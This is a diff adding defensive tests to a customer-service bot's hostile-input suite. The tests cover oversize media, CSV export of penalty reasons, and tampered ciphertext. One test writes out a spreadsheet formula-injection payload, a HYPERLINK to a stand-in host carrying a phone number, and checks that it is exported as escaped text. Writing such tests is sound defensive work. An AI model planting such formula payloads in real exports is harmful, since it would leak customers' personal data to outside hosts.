@@ -1,7 +1,10 @@
 import { encrypt, getSignature } from '@wecom/crypto';
-import { InboundMessage, OutboxMessage } from '../../src/entities';
+import { Customer, Evidence, InboundMessage, OutboxMessage, Penalty } from '../../src/entities';
+import { enqueue } from '../../src/bot/outbox';
+import { parseCsv } from '../../src/api/csv';
 import { describeEachDatabase } from '../support/databases';
-import { startBot, type RunningBot } from '../support/harness';
+import { startBot, TEST_ADMIN_TOKEN, type RunningBot } from '../support/harness';
+import { addCase } from '../support/seed';
 import { OA, WECOM, oaEvent, oaPlainRequest, oaSafeRequest, oaText, wecomRequest, wecomText } from '../support/wx';
 
 /**
@@ -142,5 +145,61 @@ describeEachDatabase('hostile input', ({ db, skipped }) => {
     expect((await running.get('/healthz')).status).toBe(200);
     expect((await running.get('/readyz')).status).toBe(200);
     expect(running.logs.text()).not.toContain(PHONE);
+  });
+});
+
+/**
+ * Hostile input that does not come as a callback: what the platform's media CDN answers, free text
+ * that later lands in a spreadsheet, and a ciphertext moved inside the database. Each has its
+ * own full test (test/bot/evidence.test.ts, test/api/exports.test.ts,
+ * test/entities/bound-encryption.test.ts); these keep the cases in the hostile-input suite.
+ */
+describeEachDatabase('hostile input beyond callbacks', ({ db, skipped }) => {
+  let running: RunningBot;
+  beforeAll(async () => {
+    if (!skipped()) running = await startBot(db(), { background: false });
+  });
+  afterAll(async () => running?.stop());
+  const admin = (path: string) => fetch(running.url + path, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
+
+  it.each([
+    ['an endless media file', 'oversize_hostile'],
+    ['a 404 page for a media file', 'missing_hostile'],
+    ['a video link to an endless file', 'video_oversize_hostile'],
+  ])('media: %s is refused, recorded as failed, nothing stored', async (_name, mediaId) => {
+    if (skipped()) return;
+    const evidence = await db().write(async (m) => {
+      const { ticket } = await addCase(m);
+      const row = await m.save(m.create(Evidence, { ticketId: ticket.id, platform: 'wechat', mediaId, mediaType: 'image', contentType: null, size: 0, status: 'pending', receivedAt: 1, fetchedAt: null }));
+      await enqueue(m, [{ dedupKey: `hostile:${mediaId}`, message: { type: 'fetch_media', to: { platform: 'wechat', id: 'o1' }, mediaId, evidenceId: row.id } }], 0);
+      return row;
+    });
+    await running.bot.outbox.drain();
+    expect(await db().reader.findOneByOrFail(Evidence, { id: evidence.id })).toMatchObject({ status: 'failed', size: 0 });
+    expect((await db().reader.findOneByOrFail(OutboxMessage, { dedupKey: `hostile:${mediaId}` })).status).toBe('undeliverable');
+    expect((await running.get('/healthz')).status).toBe(200);
+  });
+
+  it('export: a penalty reason typed as a formula reaches the CSV as text', async () => {
+    if (skipped()) return;
+    const reason = `=HYPERLINK("http://x.example/?p=${PHONE}","查看")`;
+    await db().write(async (m) => {
+      const { ticket, housekeeper } = await addCase(m);
+      await m.insert(Penalty, { ticketId: ticket.id, housekeeperId: housekeeper.id, amountFen: 100, reason, status: 'approved', month: '2026-10', raisedBy: 'csm', acknowledgedBy: null, approvedBy: 'gm01', createdAt: 1, decidedAt: 2 });
+    });
+    const csv = parseCsv((await (await admin('/api/penalties?month=2026-10&format=csv')).text()).replace(/^\ufeff/, ''));
+    expect(csv[1][csv[0].indexOf('原因')]).toBe(`'${reason}`);
+  });
+
+  it('stored data: a customer’s ciphertext copied into another column is refused, not shown', async () => {
+    if (skipped()) return;
+    const customer = await db().write((m) => m.save(m.create(Customer, { platform: 'wechat', externalId: 'o_hostile_copy', name: '陈女士', phone: PHONE, channel: 'wechat', createdAt: 1 })));
+    const [{ phone }] = await db().source.query('SELECT phone FROM customer WHERE id = ?', [customer.id]);
+    await db().source.query('UPDATE customer SET name = ? WHERE id = ?', [phone, customer.id]);
+    const response = await admin(`/api/customers/${customer.id}`);
+    expect(response.status).toBe(500);
+    expect(await response.text()).not.toContain(PHONE);
+    expect(running.logs.text()).not.toContain(PHONE);
+    expect((await running.get('/healthz')).status).toBe(200);
   });
 });
